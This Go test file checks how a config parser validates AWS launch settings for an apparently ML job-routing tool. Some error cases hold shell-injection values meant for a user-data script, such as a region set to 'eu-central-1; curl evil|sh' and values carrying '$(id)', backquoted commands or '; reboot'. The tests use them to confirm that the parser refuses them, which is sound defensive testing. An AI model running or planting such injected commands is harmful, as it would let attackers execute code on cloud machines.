package routecfg

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// launchConfig is briefConfig with every launch setting of aws-eu given.
var launchConfig = strings.Replace(strings.Replace(briefConfig, "    spot: false\n", `    spot: only
    ami: ami-0a1b2c3d4e5f
    subnets: [subnet-0aa11, subnet-0bb22]
    security_groups: [sg-0cc33]
    instance_profile: lathe-worker
    key_name: ops key
    work_uri: s3://lathe-eu-data/lathe/work
    max_instances: 3
    agent_path: /opt/lathe/bin/lathed
`, 1), "on_demand_usd_per_hour: 1.86}", "on_demand_usd_per_hour: 1.86, spot_usd_per_hour: 0.9}", 1)

// launchErrorCases: one case per kind of error of the launch settings (also
// fuzz seeds, through configErrorCases). replace edits briefConfig.
func launchErrorCases(replace func(old, new string) string) []configErrorCase {
	aws := func(lines string) string { return replace("    spot: false\n", "    spot: false\n"+lines) }
	local := func(lines string) string {
		return replace("    checkpoint_uri: file:///shared/ckpt\n", "    checkpoint_uri: file:///shared/ckpt\n"+lines)
	}
	const p = "backends.aws-eu."
	cases := []configErrorCase{
		{"ami without ami-", aws("    ami: img-0a1b\n"), p + "ami", "img-0a1b", "must be an image id: ami-…"},
		{"ami only the prefix", aws("    ami: ami-\n"), p + "ami", "ami-", "must be an image id"},
		{"ami a number", aws("    ami: 1234\n"), p + "ami", "1234", "must be a string"},
		{"subnet without subnet-", aws("    subnets: [subnet-0aa11, sub-0bb22]\n"), p + "subnets[1]", "sub-0bb22", "must be a subnet id: subnet-…"},
		{"subnet only the prefix", aws("    subnets: [subnet-]\n"), p + "subnets[0]", "subnet-", "must be a subnet id"},
		{"duplicate subnet", aws("    subnets: [subnet-0aa11, subnet-0bb22, subnet-0aa11]\n"), p + "subnets[2]", "subnet-0aa11", "duplicate subnet"},
		{"duplicate subnet after a refused item", aws("    subnets: [12, subnet-0aa11, subnet-0aa11]\n"), p + "subnets[2]", "subnet-0aa11", "duplicate subnet"},
		{"subnet a number", aws("    subnets: [12, subnet-0aa11]\n"), p + "subnets[0]", "12", "must be a string"},
		{"subnets not a list", aws("    subnets: subnet-0aa11\n"), p + "subnets", "subnet-0aa11", "must be a list"},
		{"security group without sg-", aws("    security_groups: [sg-0cc33, group-1]\n"), p + "security_groups[1]", "group-1", "must be a security group id: sg-…"},
		{"security group only the prefix", aws("    security_groups: [sg-]\n"), p + "security_groups[0]", "sg-", "must be a security group id"},
		{"duplicate security group", aws("    security_groups: [sg-0cc33, sg-0cc33]\n"), p + "security_groups[1]", "sg-0cc33", "duplicate security group"},
		{"blank instance profile", aws("    instance_profile: '  '\n"), p + "instance_profile", "  ", "IAM instance profile name"},
		{"empty instance profile", aws("    instance_profile: ''\n"), p + "instance_profile", "", "IAM instance profile name"},
		{"instance profile with a space", aws("    instance_profile: lathe worker\n"), p + "instance_profile", "lathe worker", "IAM instance profile name"},
		{"instance profile ARN of a role", aws("    instance_profile: arn:aws:iam::123456789012:role/lathe\n"), p + "instance_profile", "arn:aws:iam::123456789012:role/lathe", "or ARN"},
		{"instance profile ARN with a short account", aws("    instance_profile: arn:aws:iam::1234:instance-profile/lathe\n"), p + "instance_profile", "arn:aws:iam::1234:instance-profile/lathe", "or ARN"},
		{"blank key name", aws("    key_name: ' '\n"), p + "key_name", " ", "EC2 key pair name"},
		{"key name with a newline", aws("    key_name: \"a\\nb\"\n"), p + "key_name", "a\nb", "EC2 key pair name"},
		{"work uri not s3", aws("    work_uri: gs://lathe-eu-data/work\n"), p + "work_uri", "gs://lathe-eu-data/work", "must be s3://bucket or s3://bucket/prefix"},
		{"work uri without a bucket", aws("    work_uri: s3:///work\n"), p + "work_uri", "s3:///work", "must be s3://bucket or s3://bucket/prefix"},
		{"work uri empty", aws("    work_uri: ''\n"), p + "work_uri", "", "must be s3://bucket or s3://bucket/prefix"},
		{"work uri in an unknown bucket", aws("    work_uri: s3://lathe-other/work\n"), p + "work_uri", "s3://lathe-other/work", `bucket "lathe-other" is not listed in datasets.buckets`},
		{"work uri in another site", aws("    work_uri: s3://lathe-us-data/work\n"), p + "work_uri", "s3://lathe-us-data/work",
			`bucket "lathe-us-data" is in site aws-us-east-1, not in the backend's site aws-eu-central-1: the data of a job staged there must stay`},
		{"max instances 0", aws("    max_instances: 0\n"), p + "max_instances", "0", "must be a whole number > 0"},
		{"max instances negative", aws("    max_instances: -2\n"), p + "max_instances", "-2", "must be a whole number > 0"},
		{"max instances a fraction", aws("    max_instances: 2.5\n"), p + "max_instances", "2.5", "must be a whole number"},
		{"max instances quoted", aws("    max_instances: \"8\"\n"), p + "max_instances", "8", "must be a whole number"},
		{"agent path relative", aws("    agent_path: bin/lathed\n"), p + "agent_path", "bin/lathed", "must be the absolute path of lathed on the AMI"},
		{"agent path empty", aws("    agent_path: ''\n"), p + "agent_path", "", "must be the absolute path"},
		{"agent path with a space", aws("    agent_path: /opt/my lathed\n"), p + "agent_path", "/opt/my lathed", "user-data script"},
		{"agent path with a semicolon", aws("    agent_path: /usr/bin/lathed;reboot\n"), p + "agent_path", "/usr/bin/lathed;reboot", "user-data script"},
		{"agent path with a dollar", aws("    agent_path: /opt/$HOME/lathed\n"), p + "agent_path", "/opt/$HOME/lathed", "user-data script"},
		{"agent path with a backquote", aws("    agent_path: /opt/`id`/lathed\n"), p + "agent_path", "/opt/`id`/lathed", "user-data script"},
		{"unknown launch key", aws("    machine_image: ami-0a1b\n"), p + "machine_image", "", "unknown field"},
		{"kubernetes key on aws", aws("    image: ami-0a1b\n"), p + "image", "ami-0a1b", "only for kind kubernetes"},
		{"startup without a unit", aws("    startup: 300\n"), p + "startup", "300", "must be a duration like 90s, 5m or 1h30m"},
		{"startup not a duration", aws("    startup: soon\n"), p + "startup", "soon", "must be a duration like 90s, 5m or 1h30m"},
		{"startup negative", aws("    startup: -5m\n"), p + "startup", "-5m", "must be a duration like"},
		{"startup over a day", aws("    startup: 2d\n"), p + "startup", "2d", "must be a duration from 0 to 24h0m0s"},
		{"startup empty", aws("    startup: ''\n"), p + "startup", "", "must be a duration like"},
		{"staging_mbps zero", aws("    staging_mbps: 0\n"), p + "staging_mbps", "0", "must be a number of megabytes per second above 0 and at most 1000000"},
		{"staging_mbps negative", aws("    staging_mbps: -100\n"), p + "staging_mbps", "-100", "must be a number of megabytes per second above 0"},
		{"staging_mbps over 1 TB/s", aws("    staging_mbps: 2e6\n"), p + "staging_mbps", "2e6", "at most 1000000"},
		{"staging_mbps with a unit", aws("    staging_mbps: 100MB/s\n"), p + "staging_mbps", "100MB/s", "must be a number"},
		{"staging_mbps not finite", aws("    staging_mbps: .inf\n"), p + "staging_mbps", ".inf", "must be a finite number"},
		// Values that go into the instance's user-data script: only their
		// documented form (a shell command in one is refused, not quoted away).
		{"region with a shell command", replace("    region: eu-central-1\n", "    region: \"eu-central-1; curl evil|sh\"\n"), p + "region", "eu-central-1; curl evil|sh", "must be an AWS region name like eu-central-1"},
		{"region with a command substitution", replace("    region: eu-central-1\n", "    region: eu-central-$(id)\n"), p + "region", "eu-central-$(id)", "must be an AWS region name"},
		{"region upper case", replace("    region: eu-central-1\n", "    region: EU-CENTRAL-1\n"), p + "region", "EU-CENTRAL-1", "must be an AWS region name"},
		{"region without a number", replace("    region: eu-central-1\n", "    region: eu-central\n"), p + "region", "eu-central", "must be an AWS region name"},
		{"region with a newline", replace("    region: eu-central-1\n", "    region: \"eu-central-1\\nreboot\"\n"), p + "region", "eu-central-1\nreboot", "must be an AWS region name"},
		{"work uri with a quote", aws("    work_uri: \"s3://lathe-eu-data/w'; reboot; '\"\n"), p + "work_uri", "s3://lathe-eu-data/w'; reboot; '", "key may hold only A-Z, a-z, 0-9"},
		{"work uri with a command substitution", aws("    work_uri: s3://lathe-eu-data/$(id)/w\n"), p + "work_uri", "s3://lathe-eu-data/$(id)/w", "key may hold only"},
		{"work uri with a space", aws("    work_uri: s3://lathe-eu-data/my work\n"), p + "work_uri", "s3://lathe-eu-data/my work", "key may hold only"},
		{"work uri with a backquote", aws("    work_uri: s3://lathe-eu-data/`id`\n"), p + "work_uri", "s3://lathe-eu-data/`id`", "key may hold only"},
		{"work uri bucket not an S3 name", aws("    work_uri: s3://Lathe_EU/w\n"), p + "work_uri", "s3://Lathe_EU/w", "is not an S3 bucket name"},
	}
	// Each launch setting on a local backend.
	for _, kv := range [][3]string{
		{"ami", "ami-0a1b", "ami-0a1b"},
		{"subnets", "[subnet-0aa11]", ""},
		{"security_groups", "[sg-0cc33]", ""},
		{"instance_profile", "lathe-worker", "lathe-worker"},
		{"key_name", "ops", "ops"},
		{"work_uri", "s3://lathe-eu-data/w", "s3://lathe-eu-data/w"},
		{"max_instances", "4", "4"},
		{"agent_path", "/usr/local/bin/lathed", "/usr/local/bin/lathed"},
		{"spot", "prefer", "prefer"},
		{"spot", "false", "false"},
		{"startup", "5m", "5m"},
		{"staging_mbps", "100", "100"},
	} {
		cases = append(cases, configErrorCase{kv[0] + ": " + kv[1] + " on a local backend", local("    " + kv[0] + ": " + kv[1] + "\n"),
			"backends.local." + kv[0], kv[2], "only for kind aws"})
	}
	return cases
}

func TestLaunchSettings(t *testing.T) {
	c := mustParse(t, launchConfig)
	b, _ := c.Backend("aws-eu")
	want := Backend{
		Name: "aws-eu", Kind: KindAWS, Site: "aws-eu-central-1", Region: "eu-central-1", CheckpointURI: "s3://lathe-eu-ckpt/",
		BudgetUSDPerMonth: 5000, Spot: true, SpotPolicy: SpotOnly, InstanceTypes: b.InstanceTypes,
		AMI: "ami-0a1b2c3d4e5f", Subnets: []string{"subnet-0aa11", "subnet-0bb22"}, SecurityGroups: []string{"sg-0cc33"},
		InstanceProfile: "lathe-worker", KeyName: "ops key", WorkURI: "s3://lathe-eu-data/lathe/work", MaxInstances: 3,
		AgentPath: "/opt/lathe/bin/lathed",
	}
	if !reflect.DeepEqual(b, want) {
		t.Errorf("parsed\n%+v\nwant\n%+v", b, want)
	}
	if err := b.LaunchReady(); err != nil {
		t.Errorf("LaunchReady: %v", err)
	}
	// Other accepted spellings.
	for _, v := range []string{
		"instance_profile: arn:aws:iam::123456789012:instance-profile/lathe-worker",
		"instance_profile: arn:aws-cn:iam::123456789012:instance-profile/team/ml/lathe+w=1,a.b@c_d-e",
		"work_uri: s3://lathe-eu-data",
		"work_uri: s3://lathe-eu-data/",
		"work_uri: s3://lathe-eu-ckpt/work/",
		"security_groups: []",
		"security_groups: [sg-1, sg-2]",
		"agent_path: /lathed",
		"agent_path: /opt/lathe-1.2_3/bin/lathed",
		"max_instances: 1",
		"key_name: ~",
	} {
		key := v[:strings.IndexByte(v, ':')]
		src := launchConfig
		for _, l := range strings.Split(src, "\n") {
			if strings.HasPrefix(l, "    "+key+":") {
				src = strings.Replace(src, l, "    "+v, 1)
			}
		}
		if src == launchConfig {
			t.Fatalf("no line %s in launchConfig", key)
		}
		if _, err := ParseConfig([]byte(src)); err != nil {
			t.Errorf("%s: %v", v, err)
		}
	}
}

// TestLaunchDefaults: max_instances, agent_path and work_uri when left out.
func TestLaunchDefaults(t *testing.T) {
	cases := []struct {
		name     string
		src      string
		work     string
		max      int
		agent    string
		launchOK bool
	}{
		{"all left out", briefConfig, "s3://lathe-eu-ckpt/", DefaultMaxInstances, DefaultAgentPath, false},
		{"all given", launchConfig, "s3://lathe-eu-data/lathe/work", 3, "/opt/lathe/bin/lathed", true},
		{"work_uri given, checkpoint_uri not used", strings.Replace(briefConfig, "    spot: false\n", "    spot: false\n    work_uri: s3://lathe-eu-data/w\n", 1),
			"s3://lathe-eu-data/w", DefaultMaxInstances, DefaultAgentPath, false},
		{"checkpoints in another site: no default", strings.NewReplacer("checkpoint_uri: s3://lathe-eu-ckpt/", "checkpoint_uri: s3://lathe-us-data/ckpt").Replace(briefConfig),
			"", DefaultMaxInstances, DefaultAgentPath, false},
		{"file:// checkpoints: no default", strings.NewReplacer("checkpoint_uri: s3://lathe-eu-ckpt/", "checkpoint_uri: file:///ckpt").Replace(briefConfig),
			"", DefaultMaxInstances, DefaultAgentPath, false},
		// work_uri goes into the user-data script: a checkpoint_uri whose key
		// is not of its safe form is no default for it.
		{"checkpoints with a shell command in the key: no default", strings.NewReplacer("checkpoint_uri: s3://lathe-eu-ckpt/", "checkpoint_uri: \"s3://lathe-eu-ckpt/$(reboot)'\"").Replace(briefConfig),
			"", DefaultMaxInstances, DefaultAgentPath, false},
		{"only the required keys", strings.Replace(briefConfig, "    spot: false\n", "    ami: ami-1\n    subnets: [subnet-1]\n    instance_profile: p\n", 1),
			"s3://lathe-eu-ckpt/", DefaultMaxInstances, DefaultAgentPath, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c := mustParse(t, tc.src)
			b, _ := c.Backend("aws-eu")
			if b.WorkURI != tc.work || b.MaxInstances != tc.max || b.AgentPath != tc.agent {
				t.Errorf("work_uri %q, max_instances %d, agent_path %q; want %q, %d, %q", b.WorkURI, b.MaxInstances, b.AgentPath, tc.work, tc.max, tc.agent)
			}
			if err := b.LaunchReady(); (err == nil) != tc.launchOK {
				t.Errorf("LaunchReady: %v, want ok %v", err, tc.launchOK)
			}
			// A local backend gets none of them.
			l, _ := c.Backend("local")
			if l.WorkURI != "" || l.MaxInstances != 0 || l.AgentPath != "" || l.SpotPolicy != "" || l.Spot {
				t.Errorf("local backend with launch settings: %+v", l)
			}
		})
	}
	explicit := strings.Replace(briefConfig, "    spot: false\n", "    spot: never\n    max_instances: 8\n    agent_path: /usr/local/bin/lathed\n    work_uri: s3://lathe-eu-ckpt/\n", 1)
	if mustParse(t, explicit).Hash() != mustParse(t, briefConfig).Hash() {
		t.Errorf("the defaults written out hash differently")
	}
	if mustParse(t, launchConfig).Hash() == mustParse(t, strings.Replace(launchConfig, "ami-0a1b2c3d4e5f", "ami-0a1b2c3d4e60", 1)).Hash() {
		t.Errorf("another AMI hashes the same")
	}
}

// TestSpotPolicy: spot: true/false or a policy word; Spot follows the policy
// and so does the price routing uses.
func TestSpotPolicy(t *testing.T) {
	cases := []struct {
		line   string // "" leaves spot out
		policy string
		spot   bool
	}{
		{"", SpotNever, false},
		{"spot: false", SpotNever, false},
		{"spot: False", SpotNever, false},
		{"spot: true", SpotPrefer, true},
		{"spot: TRUE", SpotPrefer, true},
		{"spot: never", SpotNever, false},
		{"spot: prefer", SpotPrefer, true},
		{"spot: only", SpotOnly, true},
		{"spot: 'only'", SpotOnly, true},
		{"spot: ~", SpotNever, false},
	}
	for _, tc := range cases {
		t.Run(tc.line, func(t *testing.T) {
			src := strings.Replace(briefConfig, "    spot: false\n", "", 1)
			if tc.line != "" {
				src = strings.Replace(briefConfig, "    spot: false\n", "    "+tc.line+"\n", 1)
			}
			src = strings.Replace(src, "on_demand_usd_per_hour: 1.86}", "on_demand_usd_per_hour: 1.86, spot_usd_per_hour: 0.9}", 1)
			c := mustParse(t, src)
			b, _ := c.Backend("aws-eu")
			if b.SpotPolicy != tc.policy || b.Spot != tc.spot {
				t.Errorf("SpotPolicy %q, Spot %v; want %q, %v", b.SpotPolicy, b.Spot, tc.policy, tc.spot)
			}
			bi := c.idx.Backends[1]
			price := 1.86
			if tc.spot {
				price = 0.9
			}
			if bi.Spot != tc.spot || bi.Types[0].Name != "g6e.xlarge" || bi.Types[0].USDPerHr != price {
				t.Errorf("index: spot %v, %s at %v $/h; want spot %v, g6e.xlarge at %v", bi.Spot, bi.Types[0].Name, bi.Types[0].USDPerHr, tc.spot, price)
			}
		})
	}
}

func TestLaunchReady(t *testing.T) {
	ready := Backend{Name: "aws-eu", Kind: KindAWS, AMI: "ami-1", Subnets: []string{"subnet-1"}, InstanceProfile: "p", WorkURI: "s3://b/w"}
	cases := []struct {
		name string
		edit func(*Backend)
		want string // "" = nil
	}{
		{"ready", func(*Backend) {}, ""},
		{"ready without optional keys", func(b *Backend) { b.SecurityGroups, b.KeyName = nil, "" }, ""},
		{"nothing", func(b *Backend) { *b = Backend{Name: "aws-eu", Kind: KindAWS} },
			"backend aws-eu cannot launch: missing backends.aws-eu.ami, backends.aws-eu.subnets, backends.aws-eu.instance_profile, backends.aws-eu.work_uri"},
		{"no ami, no subnets", func(b *Backend) { b.AMI, b.Subnets = "", []string{} },
			"backend aws-eu cannot launch: missing backends.aws-eu.ami, backends.aws-eu.subnets"},
		{"blank instance profile", func(b *Backend) { b.InstanceProfile = " " }, "backend aws-eu cannot launch: missing backends.aws-eu.instance_profile"},
		{"file:// work uri", func(b *Backend) { b.WorkURI = "file:///work" }, "backend aws-eu cannot launch: missing backends.aws-eu.work_uri"},
		{"work uri with no bucket", func(b *Backend) { b.WorkURI = "s3://" }, "backend aws-eu cannot launch: missing backends.aws-eu.work_uri"},
		{"local", func(b *Backend) { *b = Backend{Name: "local", Kind: KindLocal} }, `backend local is not a cloud backend (kind "local"): it launches no instances`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			b := ready
			b.Subnets = []string{"subnet-1"}
			tc.edit(&b)
			err := b.LaunchReady()
			if tc.want == "" && err != nil || tc.want != "" && (err == nil || err.Error() != tc.want) {
				t.Errorf("LaunchReady = %v\nwant %q", err, tc.want)
			}
		})
	}
	// From a parsed file: the local backend, and aws-eu without launch settings.
	c := mustParse(t, briefConfig)
	l, _ := c.Backend("local")
	if err := l.LaunchReady(); err == nil || !strings.Contains(err.Error(), "not a cloud backend") {
		t.Errorf("local: %v", err)
	}
	a, _ := c.Backend("aws-eu")
	if err := a.LaunchReady(); err == nil || err.Error() != "backend aws-eu cannot launch: missing backends.aws-eu.ami, backends.aws-eu.subnets, backends.aws-eu.instance_profile" {
		t.Errorf("aws-eu: %v", err)
	}
}

// TestLaunchSettingsInGo: a Config built in Go gets the same rules and
// defaults, and compiling it never writes into the caller's Config.
func TestLaunchSettingsInGo(t *testing.T) {
	base := mustParse(t, briefConfig)
	goConfig := func(edit func(b *Backend)) Config {
		c := Config{Sites: base.Sites, RedisSite: base.RedisSite, Datasets: base.Datasets, Backends: []Backend{
			{Name: "aws-eu", Kind: KindAWS, Site: "aws-eu-central-1", Region: "eu-central-1", CheckpointURI: "s3://lathe-eu-ckpt/",
				InstanceTypes: []InstanceType{{Name: "g6e.xlarge", GPUs: 1, GPUModel: "L40S", GPUMemoryGB: 48, OnDemandUSDPerHour: 1.86, SpotUSDPerHour: 0.9}}},
			{Name: "local", Kind: KindLocal, Site: "dc-frankfurt"},
		}}
		edit(&c.Backends[0])
		return c
	}
	ok := []struct {
		name   string
		edit   func(*Backend)
		policy string
	}{
		{"Spot true, no policy", func(b *Backend) { b.Spot = true }, SpotPrefer},
		{"no spot, no policy", func(b *Backend) {}, SpotNever},
		{"only", func(b *Backend) { b.Spot, b.SpotPolicy = true, SpotOnly }, SpotOnly},
	}
	for _, tc := range ok {
		c := goConfig(tc.edit)
		before := c.Backends[0]
		cc, errs := compile(c, nil)
		if len(errs) > 0 {
			t.Fatalf("%s: %v", tc.name, &ConfigError{Errors: errs})
		}
		b := cc.Backends[0]
		if b.SpotPolicy != tc.policy || b.MaxInstances != DefaultMaxInstances || b.AgentPath != DefaultAgentPath || b.WorkURI != "s3://lathe-eu-ckpt/" {
			t.Errorf("%s: compiled %+v", tc.name, b)
		}
		if !reflect.DeepEqual(c.Backends[0], before) {
			t.Errorf("%s: compile wrote into the caller's backend: %+v", tc.name, c.Backends[0])
		}
		if again, errs := compile(cc, nil); len(errs) > 0 || again.Hash() != cc.Hash() {
			t.Errorf("%s: recompiled: %v", tc.name, errs)
		}
	}
	bad := []struct {
		name, field, value, msg string
		edit                    func(*Backend)
	}{
		{"policy never with Spot", "backends.aws-eu.spot", "true", `disagrees with the spot policy "never"`, func(b *Backend) { b.Spot, b.SpotPolicy = true, SpotNever }},
		{"policy only without Spot", "backends.aws-eu.spot", "false", `disagrees with the spot policy "only"`, func(b *Backend) { b.SpotPolicy = SpotOnly }},
		{"unknown policy", "backends.aws-eu.spot", "maybe", "is not a spot policy", func(b *Backend) { b.SpotPolicy = "maybe" }},
		{"negative max instances", "backends.aws-eu.max_instances", "-1", "> 0", func(b *Backend) { b.MaxInstances = -1 }},
		{"bad agent path", "backends.aws-eu.agent_path", "lathed", "absolute path", func(b *Backend) { b.AgentPath = "lathed" }},
		{"bad subnet", "backends.aws-eu.subnets[0]", "net-1", "subnet id", func(b *Backend) { b.Subnets = []string{"net-1"} }},
		{"work uri in another site", "backends.aws-eu.work_uri", "s3://lathe-us-data/w", "in site aws-us-east-1", func(b *Backend) { b.WorkURI = "s3://lathe-us-data/w" }},
		{"local with an AMI", "backends.aws-eu.ami", "", "only for kind aws", func(b *Backend) { *b = Backend{Name: "aws-eu", Kind: KindLocal, Site: "dc-frankfurt", AMI: "ami-1"} }},
	}
	for _, tc := range bad {
		c := goConfig(tc.edit)
		_, errs := compile(c, nil)
		found := false
		for _, fe := range errs {
			found = found || fe.Field == tc.field && fe.Value == tc.value && strings.Contains(fe.Message, tc.msg)
		}
		if !found {
			t.Errorf("%s: no error {%s %q …%s…} in %v", tc.name, tc.field, tc.value, tc.msg, &ConfigError{Errors: errs})
		}
		if _, err := c.Index(); err == nil {
			t.Errorf("%s: index built", tc.name)
		}
	}
}

func TestLaunchErrorsAllAtOnce(t *testing.T) {
	src := strings.Replace(briefConfig, "    spot: false\n", `    spot: maybe
    ami: img-1
    subnets: [subnet-1, nope, subnet-1]
    work_uri: s3://lathe-us-data/w
    max_instances: 0
    agent_path: "/x y"
`, 1)
	_, err := ParseConfig([]byte(src))
	var ce *ConfigError
	if !errors.As(err, &ce) {
		t.Fatalf("err %v", err)
	}
	var fields []string
	for _, fe := range ce.Errors {
		fields = append(fields, fe.Field)
	}
	want := []string{"backends.aws-eu.spot", "backends.aws-eu.ami", "backends.aws-eu.subnets[1]", "backends.aws-eu.subnets[2]",
		"backends.aws-eu.work_uri", "backends.aws-eu.max_instances", "backends.aws-eu.agent_path"}
	if !reflect.DeepEqual(fields, want) {
		t.Errorf("fields %v\nwant   %v\n%v", fields, want, err)
	}
}

// TestConfigExample: the commented routing example of configs/lathe.yaml,
// uncommented, parses, and its aws backend can launch.
func TestConfigExample(t *testing.T) {
	data, err := os.ReadFile(filepath.Join("..", "..", "..", "configs", "lathe.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	top := regexp.MustCompile(`^# (sites|redis_site|backends|datasets|budgets):`)
	var src strings.Builder
	in := false
	for _, l := range strings.Split(string(data), "\n") {
		switch {
		case top.MatchString(l):
			in = true
		case in && strings.HasPrefix(l, "#   "):
		default:
			in = false
			continue
		}
		src.WriteString(strings.TrimPrefix(l, "# ") + "\n")
	}
	c := mustParse(t, src.String())
	b, ok := c.Backend("aws-eu")
	if !ok || c.Implicit {
		t.Fatalf("no aws-eu in the example:\n%s", src.String())
	}
	if err := b.LaunchReady(); err != nil {
		t.Errorf("the example's aws-eu: %v", err)
	}
	if b.SpotPolicy != SpotNever || b.MaxInstances != 8 || b.AgentPath != DefaultAgentPath || len(b.SecurityGroups) != 1 {
		t.Errorf("the example's aws-eu: %+v", b)
	}
}

// withAWSKey parses briefConfig as it is (plain) and with line added to
// its aws-eu backend (c), and returns that backend as parsed and as
// indexed for routing.
func withAWSKey(t *testing.T, line string) (plain, c Config, b Backend, bi BackendInfo) {
	t.Helper()
	plain, err := ParseConfig([]byte(briefConfig))
	if err != nil {
		t.Fatal(err)
	}
	if c, err = ParseConfig([]byte(strings.Replace(briefConfig, "    spot: false\n", "    spot: false\n    "+line+"\n", 1))); err != nil {
		t.Fatal(err)
	}
	b, _ = c.Backend("aws-eu")
	x, err := c.Index()
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range x.Backends {
		if v.Name == "aws-eu" {
			bi = v
		}
	}
	return plain, c, b, bi
}

// TestStartup: an aws backend's startup is parsed, indexed for routing and
// hashed; none is 0 and leaves the config's hash as it was.
func TestStartup(t *testing.T) {
	plain, c, b, bi := withAWSKey(t, "startup: 4m30s")
	if b.Startup != 270*1e9 || bi.Startup != b.Startup {
		t.Errorf("startup %v, indexed %v; want 4m30s", b.Startup, bi.Startup)
	}
	if pb, _ := plain.Backend("aws-eu"); pb.Startup != 0 {
		t.Errorf("no startup key: %v, want 0", pb.Startup)
	}
	if c.Hash() == plain.Hash() {
		t.Error("a startup does not change the config's hash")
	}
}

// TestStagingMBps: an aws backend's staging_mbps is parsed, indexed for
// routing in bytes per second and hashed; none is 0 (not timed).
func TestStagingMBps(t *testing.T) {
	plain, c, b, bi := withAWSKey(t, "staging_mbps: 250.5")
	if b.StagingMBps != 250.5 || bi.StageBps != 250.5e6 {
		t.Errorf("staging_mbps %v, indexed %v B/s; want 250.5 MB/s", b.StagingMBps, bi.StageBps)
	}
	if pb, _ := plain.Backend("aws-eu"); pb.StagingMBps != 0 {
		t.Errorf("no staging_mbps key: %v, want 0", pb.StagingMBps)
	}
	if c.Hash() == plain.Hash() {
		t.Error("a staging_mbps does not change the config's hash")
	}
	// Built in Go, not parsed: the same check.
	bad := c
	bad.Backends = append([]Backend(nil), c.Backends...)
	for i := range bad.Backends {
		if bad.Backends[i].Name == "aws-eu" {
			bad.Backends[i].StagingMBps = -1
		}
	}
	if _, err := Compile(bad); err == nil || !strings.Contains(err.Error(), "backends.aws-eu.staging_mbps") || !strings.Contains(err.Error(), "-1") {
		t.Errorf("staging_mbps -1 in a Config built in Go: %v; want an error naming backends.aws-eu.staging_mbps and -1", err)
	}
}
